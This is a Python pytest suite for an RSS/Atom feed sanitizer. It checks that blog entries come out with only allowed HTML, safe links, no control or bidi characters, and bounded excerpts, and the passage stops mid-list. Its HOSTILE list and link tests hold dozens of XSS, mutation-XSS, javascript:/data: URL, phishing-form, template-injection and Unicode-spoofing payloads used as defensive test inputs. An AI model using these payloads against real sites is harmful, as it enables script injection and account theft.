from __future__ import annotations

import multiprocessing
import re
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import html5lib
import msgspec
import pytest
from bs4 import BeautifulSoup
from bs4.element import CData, Comment, Declaration, Doctype, ProcessingInstruction, Tag
from hypothesis import given, settings
from hypothesis import strategies as st

from frontdesk.formats.sanitizer import html_to_text
from frontdesk.net.model import Failed, Fetched
from partner_blogs.model.feed import CleanEntry, CleanFeed, ParsedFeed, RawEntry, RawText
from partner_blogs.refresh.clean import clean_feed
from partner_blogs.refresh.parse_document import parse_and_clean
from partner_blogs.refresh.parse_feedparser import parse_feed

ADDRESS = "https://desk.example/blog/feed"
ELEMENTS = {
    *("p", "br", "hr", "blockquote", "q", "cite", "em", "strong", "b", "i", "s", "sub", "sup"),
    *("small", "code", "pre", "kbd", "ul", "ol", "li", "dl", "dt", "dd", "abbr", "a"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("abbr", "title")}
BIDI = {chr(c) for c in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}


def html(value: str, base: str = ADDRESS) -> RawText:
    return RawText(value=value, html=True, base=base)


def plain(value: str) -> RawText:
    return RawText(value=value, html=False, base=ADDRESS)


def cleaned_feed(parsed: ParsedFeed, address: str = ADDRESS, *, full: bool = True) -> CleanFeed:
    return clean_feed(parsed, Fetched(body=b"", content_type=None, address=address), full=full)


def cleaned(address: str = ADDRESS, *, full: bool = True, **fields: Any) -> CleanEntry:
    (entry,) = cleaned_feed(ParsedFeed(entries=(RawEntry(**fields),)), address, full=full).entries
    return entry


def content(value: str) -> str:
    found = cleaned(content=html(value)).content
    assert found is not None
    return found


def everywhere(value: str) -> CleanFeed:
    """The same text in every field that a feed has, once as HTML and once as plain text."""
    entries = tuple(
        RawEntry(
            id=value,
            link=value,
            title=RawText(value=value, html=is_html, base=value),
            author=value,
            summary=RawText(value=value, html=is_html, base=ADDRESS),
            content=RawText(value=value, html=is_html, base=ADDRESS),
            tags=(value, f"x{value}"),
            language=value,
            rights=value,
            image=value,
        )
        for is_html in (True, False)
    )
    return cleaned_feed(
        ParsedFeed(
            id=value,
            title=html(value),
            link=value,
            language=value,
            rights=value,
            licence=value,
            icon=value,
            entries=(*entries, RawEntry(link=f"https://{value}/x"), RawEntry(link=f"/{value}")),
        )
    )


# --- what harmless means ------------------------------------------------------------------------


def is_printable(text: str) -> bool:
    """No control, no bidirectional and no half character, none that XML cannot hold."""
    return not any(
        unicodedata.category(c) in {"Cc", "Cs"} or c in BIDI or c in "\ufffe\uffff" for c in text
    )


def assert_safe_html(markup: str) -> None:
    """Tag by tag as it is written, and as a browser would make a tree of it."""
    assert is_printable(re.sub(r"[\t\n\r]", "", markup)), ascii(markup)
    for parser in ("html.parser", "html5lib"):
        assert_safe_tree(BeautifulSoup(f"<body>{markup}</body>", parser))


def assert_safe_tree(soup: BeautifulSoup) -> None:
    for node in soup.descendants:
        assert not isinstance(node, Comment | CData | Declaration | Doctype | ProcessingInstruction)
        if not isinstance(node, Tag) or node.name in {"html", "head", "body"}:
            continue
        assert node.name in ELEMENTS, node.name
        for attribute, value in node.attrs.items():
            assert (node.name, attribute) in ATTRIBUTES, (node.name, attribute)
            if attribute == "href":
                assert_safe_address(str(value))
            else:
                assert is_printable(str(value))


def assert_safe_address(address: str) -> None:
    assert re.fullmatch(r"https?://[^\s<>\"'`{}|\\]+", address), ascii(address)
    assert is_printable(address), ascii(address)
    assert "@" not in address.split("/")[2]


def strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for inner in value.values():
            yield from strings(inner)
    elif isinstance(value, list | tuple):
        for inner in value:
            yield from strings(inner)


def assert_harmless(feed: CleanFeed) -> None:
    facts = feed.facts
    entries = (address for entry in feed.entries for address in (entry.link, entry.image))
    for address in (facts.link, facts.licence, facts.icon, *entries):
        if address is not None:
            assert_safe_address(address)
    for entry in feed.entries:
        assert entry.title
        assert entry.id
        if entry.content is not None:
            assert_safe_html(entry.content)
        assert_within_limits(entry)
    without_content = msgspec.to_builtins(feed)
    for entry in without_content["entries"]:
        entry.pop("content", None)
    for text in strings(without_content):
        assert is_printable(text), ascii(text)
    msgspec.json.encode(feed)


def assert_within_limits(entry: CleanEntry) -> None:
    assert len(entry.excerpt) <= 400
    assert len(entry.excerpt.split()) <= 60
    assert len(entry.title) <= 300
    assert len(entry.id) <= 1000
    assert len(entry.author or "") <= 120
    assert len(entry.link or "") <= 2000
    assert len(entry.tags) <= 20
    assert all(len(tag) <= 60 for tag in entry.tags)


# --- hostile inputs -----------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onmouseover=alert(1)>x</b>",
    "<p onclick='alert(1)' ONLOAD=\"x\" style='background:url(javascript:alert(1))'>x</p>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='javascript&#0;:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>",
    "<a href='view-source:https://evil.example/'>x</a>",
    "<a href='https://ann:secret@desk.example/'>x</a>",
    "<a href='//evil.example/\\@desk.example'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='https://desk.example/{{ 7*7 }}|{attach}../../pelicanconf.py'>x</a>",
    "<a href='{static}/../../x'>x</a>",
    '<a href="https://desk.example/&quot;onmouseover=alert(1)">x</a>',
    "<a href='https://desk.example/\u202egpj.exe'>x</a>",
    "<a href='https://desk\u202e.example/'>x</a>",
    "<a href='https://desk&#x1b;.example/'>x</a>",
    "<a href='https://[::1'>x</a>",
    "<a target=_blank ping=https://evil.example rel=opener href=/x>x</a>",
    "<a id=x name=y class=z href=/x>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://tracker.example/pixel.gif' width=1 height=1>",
    "<picture><source srcset=x><img src=x></picture>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf><embed src=x.swf></object>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<video src=x onerror=alert(1)><source src=x></video><audio autoplay src=x></audio>",
    "<style>p { background: url(https://evil.example) }</style>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><a href=x>x</a>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select><option>x<textarea></select></textarea>",
    "<isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open>x</dialog>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!-- <img src=x onerror=alert(1)> --!><b>x",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "</div></div></main></body></html>",
    "</p></td></tr></table><h1>x",
    "<b><i><a href=/x>",
    "<table><tr><td><table><a href=/x>x",
    "<p><pre>\n\n x</pre>",
    "<a href='/x'><table><a href='/y'>x",
    "<",
    "<<<<>>>>",
    "&",
    "&&lt;&amp;;&#;&#x;&#xfffffff;",
    "{{ config }} {% include 'x' %} {# x #}",
    "{attach}../../pelicanconf.py {static}/../x |filename|/etc/passwd",
    "${7*7} <%= 7*7 %> #{7*7} [[x]]",
    "\u202egnp.exe\u202c",
    "\u2066a\u2069\u200e\u200f\u061c",
    "&#x202e;x&#8238;",
    "&#x1b;[31mred&#27;",
    "\x1b[2J\x07\x08",
    "a\0b",
    "&#0;&#x8;&#xb;",
    "\x80\x85\x9b2J\x9f",
    "&#x80;&#x9b;2J",
    "\ufeff\ufffe\uffff",
    "\ud800x\udfff",
    "&#xD800;",
    "x\u2028y\u2029z",
    "javascript:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/<script>alert(1)</script>",
    "https://desk.example/' onmouseover='alert(1)",
    'https://desk.example/" onmouseover="alert(1)',
    "//evil.example/x",
    "https://desk.example:99999/",
    "https://desk.example:0/",
    "https://[::1/",
    "https://desk\x1b.example/",
    "https://desk\u202e.example/",
    "https://desk\x9b.example/",
    "https://\x00/",
    "https://`/x",
    "https://a^b.example/",
    "http:///x",
    "https://" + "a" * 3000 + ".example/",
    "https://desk.example/" + "a" * 5000,
    "w" * 10_000,
    "w" * 10_000 + " w",
    "word " * 10_000,
    "<b>" * 300,
    "<table>" * 300,
    "<a href=/x>" * 300,
    "\n \t\r\n",
    "\u200b\u2060\u00ad",
]


NAMES = [f"{number} {ascii(value)[1:-1][:40]}" for number, value in enumerate(HOSTILE)]


@pytest.mark.E6
@pytest.mark.parametrize("value", HOSTILE, ids=NAMES)
def test_nothing_hostile_survives_in_any_field(value: str) -> None:
    assert_harmless(everywhere(value))


@pytest.mark.E6
@pytest.mark.parametrize("value", HOSTILE, ids=NAMES)
def test_what_is_clean_stays_as_it_is(value: str) -> None:
    once = content(value)
    assert content(once) == once


@pytest.mark.E6
@pytest.mark.parametrize(
    ("given_html", "text", "safe"),
    [
        ("<script>alert(1)</script>Hello", "Hello", "Hello"),
        ("<style>p {}</style>Hello", "Hello", "Hello"),
        ("<p onclick=x>One <b>two</b></p><p>three", "One two · three", None),
        ("one<br>two<hr>three", "one two · three", "one<br>two<hr>three"),
        ("<h2>Title</h2>text", "text", "Titletext"),
        ("<div>a</div><div>b</div>", "a · b", "ab"),
        ("a<b>b</b>c", "abc", "a<b>b</b>c"),
        ("Tom &amp; Ann &lt;3 &copy;", "Tom & Ann <3 ©", None),
        ("&amp;lt;b&amp;gt;", "&lt;b&gt;", "&amp;lt;b&amp;gt;"),
        ("a&nbsp;b\n\tc", "a b c", None),
        (
            "<a href='/x'>link</a>",
            "link",
            '<a href="https://desk.example/x" rel="external">link</a>',
        ),
        (
            "<a href='https://d.example/{{a}}|b c'>x</a>",
            "x",
            '<a href="https://d.example/%7B%7Ba%7D%7D%7Cb%20c" rel="external">x</a>',
        ),
        ("before<img src=x alt=pixel>after", "beforeafter", "beforeafter"),
        ("{{ x }} {attach}../../x", "{{ x }} {attach}../../x", "{{ x }} {attach}../../x"),
        ("a <!-- b --> c", "a c", "a  c"),
        ("<svg><text>x</text></svg>y", "y", "y"),
        ("<abbr title='a &quot;b&quot;'>c</abbr>", "c", None),
        ("<table><tr><td>1</td><td>2</td></tr></table>", "1 · 2", None),
    ],
)
def test_text_and_markup_come_out_as_they_should(
    given_html: str, text: str, safe: str | None
) -> None:
    entry = cleaned(content=html(given_html))
    assert entry.excerpt == text
    assert safe is None or entry.content == safe


@pytest.mark.E5
def test_whole_texts_are_kept_only_with_consent() -> None:
    fields = {"summary": html("<p>short</p>"), "content": html("<p>long</p>")}
    assert cleaned(full=False, **fields).content is None
    assert cleaned(full=True, **fields).content == "<p>long</p>"
    assert cleaned(full=True, summary=fields["summary"]).content == "<p>short</p>"


def test_a_plain_text_becomes_a_paragraph() -> None:
    assert cleaned(content=plain("a < b & <i>c</i>")).content == (
        "<p>a &lt; b &amp; &lt;i&gt;c&lt;/i&gt;</p>"
    )


@pytest.mark.E9
@pytest.mark.parametrize(
    ("begins", "ends"),
    [
        ("<div>", "</div>"),
        ("<ul><li>", "</li></ul>"),
        ("<dl><dt>", ""),
        ("<a href=/x><b><div>", "</a>"),
        ("<p><span>", ""),
        ("<div >x</p >", ""),
        ("<DIV\n>", ""),
        ("<li>", ""),
        ("<table><tr><td>", ""),
        ("<div></b>", ""),
        ("<div a='<'>", ""),
    ],
)
def test_deep_nesting_takes_no_more_time_than_any_other_text(begins: str, ends: str) -> None:
    """E9: one post of 200 kB must not hold up the refresh; a flat one takes 0.05 s."""
    text = begins * 100_000 + "x" + ends * 100_000
    reader = multiprocessing.get_context("fork").Process(target=content, args=(text,))
    reader.start()
    reader.join(20)
    took_too_long = reader.exitcode is None
    reader.kill()
    reader.join()
    assert not took_too_long


@pytest.mark.parametrize(
    "flat",
    [
        "<p>x",
        "<p>x</p>",
        "<ul><li>x</ul>",
        "<table><tr><td>x<td>y</table>",
        "x<BR>",
        "<svg><path d='x'/><path d='y'/></svg>",
        "<picture><source srcset=x><img src=x></picture>",
        "<p>5 < 6",
    ],
)
def test_a_long_flat_text_keeps_its_markup(flat: str) -> None:
    assert content(flat * 400 + "<b>end</b>").endswith(("<b>end</b>", "<b>end</b></p>"))


def test_a_long_table_without_closing_tags_keeps_its_cells() -> None:
    """HTML lets </td> and </tr> be left out."""
    found = content("<table>" + "<tr><td>x<td>y" * 400 + "</table>")
    assert found.count("<td>") == 800


# --- titles and excerpts (E5) -------------------------------------------------------------------


@pytest.mark.E5
def test_a_title_with_markup_becomes_plain_text() -> None:
    assert cleaned(title=html("Two <b>keys</b> &amp; one door")).title == "Two keys & one door"
    assert cleaned(title=html("<script>x</script>5 &lt; 6")).title == "5 < 6"


def test_an_atom_title_of_type_text_keeps_its_angle_brackets() -> None:
    assert cleaned(title=plain("Why <b> is not <strong>")).title == "Why <b> is not <strong>"
    assert cleaned(title=plain("AT&amp;T")).title == "AT&amp;T"


@pytest.mark.parametrize(
    "empty", [None, html(""), html("<b> </b>"), plain("\u200b"), html("<img>")]
)
def test_an_empty_title_is_taken_from_the_text_then_the_link(empty: RawText | None) -> None:
    words = "One two three four five six seven eight nine ten eleven"
    link = "https://desk.example/2026/two-keys_one"
    title = cleaned(title=empty, summary=plain(words), link=link).title
    assert title == "One two three four five six seven eight nine ten…"
    assert cleaned(title=empty, summary=plain("Only this."), link=link).title == "Only this."
    assert cleaned(title=empty, summary=empty, content=empty, link=link).title == "Two keys one"
    assert cleaned(title=empty, summary=empty).title == "Untitled"
    assert cleaned(title=empty, link="https://desk.example/").title == "Untitled"


@pytest.mark.parametrize(
    ("path", "title"),
    [
        ("2026/11/two-keys/", "Two keys"),
        ("żółte-klucze", "Żółte klucze"),
        ("two%20keys", "Two keys"),
    ],
)
def test_a_title_from_a_link_is_words(path: str, title: str) -> None:
    assert cleaned(link=f"https://desk.example/{path}").title == title


@pytest.mark.E9
def test_a_long_title_is_cut_with_an_ellipsis() -> None:
    title = cleaned(title=plain("word " * 100)).title
    assert len(title) <= 300
    assert title.endswith("…")
    whole = "x" * 300
    assert cleaned(title=plain(whole)).title == whole


@pytest.mark.E5
@pytest.mark.parametrize("words", [1, 59, 60])
def test_a_text_of_sixty_words_is_whole(words: int) -> None:
    text = " ".join(["word"] * words)
    assert cleaned(summary=plain(text)).excerpt == text


@pytest.mark.E5
def test_a_text_of_four_hundred_characters_is_whole() -> None:
    text = " ".join(["nineteen letters ok"] * 20)
    assert len(text) == 399
    for whole in (text, f"{text}."):
        assert cleaned(summary=plain(whole)).excerpt == whole


@pytest.mark.E5
def test_a_longer_text_is_cut_between_words() -> None:
    words = cleaned(summary=plain(" ".join(f"w{n}" for n in range(61)))).excerpt
    assert words.split()[-1] == "w59…"
    letters = cleaned(summary=plain(" ".join(["nineteen letters ok"] * 21))).excerpt
    assert letters.endswith(("letters…", "ok…", "nineteen…"))
    assert len(letters) <= 400


def test_an_excerpt_is_the_summary_and_only_without_one_the_content() -> None:
    text, nothing = html("<p>the content</p>"), html("<img src=x>")
    assert cleaned(summary=html("the summary"), content=text).excerpt == "the summary"
    assert cleaned(summary=nothing, content=text).excerpt == "the content"
    assert cleaned(summary=nothing).excerpt == ""


@pytest.mark.E5
def test_an_excerpt_has_no_pictures_and_no_links() -> None:
    excerpt = cleaned(summary=html('A <a href="/x">link</a> and <img src="y" alt="z">more')).excerpt
    assert excerpt == "A link and more"


@pytest.mark.E5
@settings(max_examples=80, derandomize=True, deadline=None)
@given(st.lists(st.text(max_size=30) | st.sampled_from(["word", "—", "…", "a" * 150]), max_size=90))
def test_an_excerpt_is_the_text_or_its_beginning_with_an_ellipsis(words: list[str]) -> None:
    entry = cleaned(summary=plain(" ".join(["So", *words, "ends"])))
    whole = " ".join("".join(c for c in " ".join(["So", *words, "ends"]) if is_kept(c)).split())
    assert_within_limits(entry)
    if not re.search("[\n\r\x1c-\x1e\x85\u2028\u2029]", "".join(words)):
        assert entry.excerpt == whole or entry.excerpt.endswith("…")
    assert letters(whole).startswith(letters(entry.excerpt))
    if letters(entry.excerpt) != letters(whole):
        assert len(whole) > 399 or len(whole.split(" ")) > 60
        assert entry.excerpt.endswith("…")


def letters(text: str) -> str:
    return "".join(filter(str.isalnum, text))


def is_kept(c: str) -> bool:
    """Not a control, bidirectional or invisible character; the end of a line counts as a space."""
    invisible = {
        "\u00ad",
        "\u200b",
        *map(chr, range(0x2060, 0x2066)),
        *map(chr, range(0xFFF9, 0xFFFC)),
    }
    gone = c in BIDI or c in invisible or c in "\ufeff\ufffe\uffff"
    return c in "\t\n\r\x85" or not (gone or unicodedata.category(c) in {"Cc", "Cs"})


# --- ids ----------------------------------------------------------------------------------------


def test_an_id_is_the_one_that_the_feed_gave() -> None:
    for given_id in ("tag:desk.example,2026:1", "1", "a b", "https://desk.example/?p=1&q=2"):
        assert cleaned(id=given_id, link="https://desk.example/x").id == given_id


@pytest.mark.E2
def test_without_an_id_the_link_serves_then_title_and_day() -> None:
    day = datetime(2026, 11, 22, 9, tzinfo=UTC)
    title = plain("Two keys")
    assert cleaned(link="/x", title=title).id == "https://desk.example/x"
    assert cleaned(title=title, published=day).id == "title:2026-11-22:Two keys"
    assert cleaned(title=title).id == "title:undated:Two keys"
    assert cleaned(id=" \u200b", link="/x").id == "https://desk.example/x"


@pytest.mark.E9
@pytest.mark.parametrize("length", [1001, 5000, 9_999, 10_500, 300_000])
def test_an_id_too_long_to_keep_is_hashed_and_stays_unique(length: int) -> None:
    long = "x" * length
    ids = {cleaned(id=f"{long}{end}").id for end in "ab"}
    assert len(ids) == 2
    assert all(each.startswith("sha256:") and len(each) == 71 for each in ids)
    assert cleaned(id=f"{long}a").id in ids


def test_an_id_of_a_thousand_characters_is_kept() -> None:
    assert cleaned(id="x" * 1000).id == "x" * 1000


# --- links --------------------------------------------------------------------------------------


@pytest.mark.E6
@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "ftp://desk.example/x",
        "mailto:ann@desk.example",
        "feed://desk.example/x",
        "about:blank",
        "tag:desk.example,2026:1",
        "urn:uuid:1",
        "https://desk.example:port/",
        "https://desk.example:99999/",
        "https://[::1/",
        "https://a<b>.example/",
        "https://a{b}.example/",
        "https://a`b.example/",
        "https://a%62.example/",
        "https://" + "a" * 2000 + ".example/",
        "",
        None,
    ],
)
def test_a_link_that_nobody_should_follow_is_no_link(link: str | None) -> None:
    assert cleaned(link=link).link is None


@pytest.mark.E6
@pytest.mark.parametrize(
    ("link", "address"),
    [
        ("https://desk.example/a?b=c&d#e", "https://desk.example/a?b=c&d#e"),
        ("HTTPS://Desk.Example/A", "https://desk.example/A"),
        ("  https://desk.example/x\n", "https://desk.example/x"),
        ("/x", "https://desk.example/x"),
        ("x", "https://desk.example/blog/x"),
        ("?p=1", "https://desk.example/blog/feed?p=1"),
        ("//other.example/x", "https://other.example/x"),
        ("https://ann:secret@desk.example/x", "https://desk.example/x"),
        ("https://desk.example:8080/x", "https://desk.example:8080/x"),
        ("https://[2001:db8::1]/x", "https://[2001:db8::1]/x"),
        ("https://desk.example/a b", "https://desk.example/a%20b"),
        ("https://desk.example/a%20b", "https://desk.example/a%20b"),
        ("https://desk.example/{a}|b", "https://desk.example/%7Ba%7D%7Cb"),
        ("https://desk.example/'a'", "https://desk.example/%27a%27"),
        ('https://desk.example/"a"<b>', "https://desk.example/%22a%22%3Cb%3E"),
        ("https://desk.example/żółć", "https://desk.example/%C5%BC%C3%B3%C5%82%C4%87"),
        ("https://desk.example/\u202ex", "https://desk.example/%E2%80%AEx"),
        ("https://żółć.example/x", "https://żółć.example/x"),
    ],
)
def test_a_link_is_whole_and_safe_to_print(link: str, address: str) -> None:
    assert cleaned(link=link).link == address


@pytest.mark.E6
def test_a_link_is_resolved_against_xml_base_then_the_feeds_link_then_its_address() -> None:
    based = html("x", base="https://base.example/b/")
    assert cleaned(link="x", content=based).link == "https://base.example/b/x"
    entries = (RawEntry(link="x"),)
    home = ParsedFeed(link="https://home.example/h/", entries=entries)
    assert cleaned_feed(home).entries[0].link == "https://home.example/h/x"
    assert (
        cleaned_feed(ParsedFeed(entries=entries)).entries[0].link == "https://desk.example/blog/x"
    )
    assert cleaned_feed(ParsedFeed(entries=entries), address="").entries[0].link is None


@pytest.mark.E6
def test_a_link_in_a_text_is_resolved_against_its_own_base() -> None:
    based = html("<a href=x>y</a>", base="https://base.example/b/")
    assert 'href="https://base.example/b/x"' in (cleaned(content=based).content or "")
    for base in ("javascript:x", "file:///etc/", "data:x,"):
        found = cleaned(content=html("<a href=x>y</a>", base=base)).content or ""
        assert "javascript" not in found
        assert "file:" not in found
        assert "data:" not in found
        assert_safe_html(found)


# --- the other fields ---------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "en-GB", "pl", "zh-Hant-TW", "de-CH-1901"])
def test_a_language_is_kept(language: str) -> None:
    assert cleaned(language=language).language == language


@pytest.mark.parametrize("language", ["english!", "e", "en_GB", "en\n", '"><script>', "", None])
def test_what_is_no_language_is_dropped(language: str | None) -> None:
    assert cleaned(language=language).language is None


@pytest.mark.E5
def test_tags_are_few_short_and_different() -> None:
    tags = cleaned(tags=("a", "a", " a ", "<b>a</b>", "", "<i></i>", "b" * 100)).tags
    assert tags[0] == "a"
    assert len(tags) == 2
    assert len(tags[1]) <= 60
    assert len(cleaned(tags=tuple(map(str, range(50)))).tags) == 20


@pytest.mark.E5
def test_an_author_is_plain_text() -> None:
    assert cleaned(author="<b>Ann</b> <script>x</script>Example").author == "Ann Example"
    assert cleaned(author="Ann <ann@desk.example>").author == "Ann"
    assert cleaned(author="<i></i>").author is None
    assert cleaned(author="Ann\x1b[31m\u202e\n Example").author == "Ann[31m Example"


@pytest.mark.E5
@pytest.mark.parametrize(
    "account",
    [
        "Admin", "admin", "Administrator", "(author unknown)", "Unknown", "webmaster", "WP Admin",
        "noreply", "noreply@blogger.com", "no-reply@desk.example (admin)", "root", "Administrador",
        "администратор", "-", "N/A",
        "<b>admin</b>", "admin, Unknown", "[unknown]",
    ],
)  # fmt: skip
def test_an_account_that_nobody_named_is_no_author(account: str) -> None:
    assert cleaned(author=account).author is None


@pytest.mark.E5
@pytest.mark.parametrize(
    "name",
    ["Ann Admin", "Adminah Ray", "Root Ruth", "Martin King, Jr.", "The Unknowns", "Юлия", "王"],
)
def test_a_name_that_resembles_one_is_an_author(name: str) -> None:
    assert cleaned(author=name).author == name
    assert cleaned(author=f"admin, {name}").author == name


UNSHOWN = [
    "script",
    "style",
    "svg",
    "template",
    "noscript",
    "iframe",
    "title",
    "textarea",
    "object",
]
SHOWN = [
    "p",
    "div",
    "b",
    "I",
    "span",
    "blockquote",
    "li",
    "UL",
    "a",
    "h2",
    "section",
    "x-note",
    "em",
]
WITH = [
    "",
    ' lang="en"',
    " title='a > b'",
    " LANG=pl hidden",
    ' class="x" id=y data-z="&lt;b&gt;"',
    ' style="color:red"',
    " onclick=alert(1)",
    ' aria-label="</p>"',
    " dir=rtl xml:lang=de",
]
NESTED = st.recursive(
    st.text(st.sampled_from("ab >&;\"'=é"), max_size=8),
    lambda inner: st.builds(
        lambda name, attributes, parts: f"<{name}{attributes}>{''.join(parts)}</{name.lower()}>",
        st.sampled_from([*SHOWN, *UNSHOWN]),
        st.sampled_from(WITH),
        st.lists(inner, max_size=3),
    ),
    max_leaves=12,
)


def shown_text(element: ET.Element) -> str:
    if str(element.tag).rpartition("}")[2].lower() in {name.lower() for name in UNSHOWN}:
        return ""
    return (element.text or "") + "".join(shown_text(one) + (one.tail or "") for one in element)


@pytest.mark.E5
@pytest.mark.E6
@given(NESTED)
def test_plain_words_are_what_a_browser_shows_and_html_is_on_the_list(markup: str) -> None:
    # A browser runs scripts, so for it the first end tag of noscript ends all that are open.
    page = html5lib.parse(f"<body>{markup}</body>", namespaceHTMLElements=False, scripting=True)
    seen = "".join(shown_text(page.find("body")).split())
    assert "".join(html_to_text(markup).split()) == seen
    assert_safe_html(content(f"<i></i>{markup}"))


@pytest.mark.E6
@pytest.mark.parametrize(
    "attribute", ["lang='en'", "title='x'", "LANG=en", "dir=rtl", "class=a id=b"]
)
def test_no_attribute_outside_the_list_stays_in_html(attribute: str) -> None:
    for name in sorted(
        ELEMENTS - {"br", "hr", "a", "abbr", "thead", "tbody", "tr", "th", "td", "table"}
    ):
        found = content(f"<{name} {attribute}>x</{name}>")
        assert "=" not in found, found
    assert content("<abbr title='x' lang=en>y</abbr>") == '<abbr title="x">y</abbr>'


def test_the_earlier_date_wins_where_there_are_two() -> None:
    first, second = (datetime(2026, 11, day, tzinfo=UTC) for day in (20, 22))
    assert cleaned(published=first, updated=second).published == first
    assert cleaned(updated=second).published == second
    assert cleaned().published is None


def test_what_a_feed_says_of_itself_is_cleaned() -> None:
    facts = cleaned_feed(
        ParsedFeed(
            id="tag:desk.example,2026:feed",
            title=html("The <em>Front</em> Desk<script>x</script>"),
            link="/",
            language="en",
            rights="© <b>Ann</b>",
            licence="javascript:alert(1)",
            icon="/icon.png",
        )
    ).facts
    assert (facts.id, facts.title) == ("tag:desk.example,2026:feed", "The Front Desk")
    assert (facts.link, facts.language) == ("https://desk.example/", "en")
    assert (facts.rights, facts.licence) == ("© Ann", None)
    assert facts.icon == "https://desk.example/icon.png"


# --- whatever comes -----------------------------------------------------------------------------

PIECES = st.sampled_from(
    [
        *(
            "<p>",
            "</p>",
            "<div>",
            "<b>",
            "</b>",
            "<pre>",
            "<table>",
            "<td>",
            "<li>",
            "<ul>",
            "<br>",
        ),
        *("<script>", "</script>", "<style>", "<svg>", "</svg>", "<math>", "<mtext>", "<title>"),
        *(
            "<template>",
            "<noscript>",
            "<select>",
            "<option>",
            "<textarea>",
            "<plaintext>",
            "<form>",
        ),
        *("<!--", "-->", "<![CDATA[", "]]>", "<?x", "<!x", "<", ">", '"', "'", "&", ";", "=", "/"),
        *(
            "<a href=",
            "</a>",
            "<a href='/x'>",
            "<abbr title='",
            "javascript:",
            "https://",
            "onclick=",
        ),
        *("&lt;", "&gt;", "&quot;", "&nbsp;", "&amp;", "&#60;", "&#x3C", "&colon;", "&Tab;"),
        *(
            "{{",
            "}}",
            "{attach}",
            "|",
            "\\",
            "\x00",
            "\x1b",
            "\x85",
            "\x9b",
            "\u202e",
            "\u2028",
            "\n",
        ),
        *("one", "two ", " three", "é", "\U0001f600", "a" * 70),
    ]
)
TEXT = st.text(st.characters(exclude_characters="\x85"), max_size=6)  # it has its line in the table
SOUP = st.lists(PIECES | TEXT, max_size=20).map("".join)


@pytest.mark.E6
@given(SOUP)
def test_any_soup_comes_out_harmless_in_every_field(soup: str) -> None:
    assert_harmless(everywhere(soup))


PROSE = st.lists(
    st.sampled_from(
        [
            *("<p>", "</p>", "<b>", "</b>", "<em>", "</em>", "<ul><li>", "</li></ul>", "<br>"),
            *("<blockquote>", "</blockquote>", "<code>", "</code>", "<a href='/x'>", "</a>"),
            *(
                "<img src=x>",
                "<div>",
                "</div>",
